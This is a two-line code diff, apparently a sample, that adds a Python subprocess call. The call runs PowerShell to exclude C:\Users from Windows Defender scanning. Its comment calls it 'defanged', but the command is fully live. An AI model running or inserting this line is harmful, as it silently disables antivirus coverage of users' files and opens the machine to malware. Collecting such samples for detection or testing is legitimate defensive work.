@@ -1,0 +1,2 @@
+# defanged sample
+subprocess.run('powershell Add-MpPreference -ExclusionPath C:\\Users')
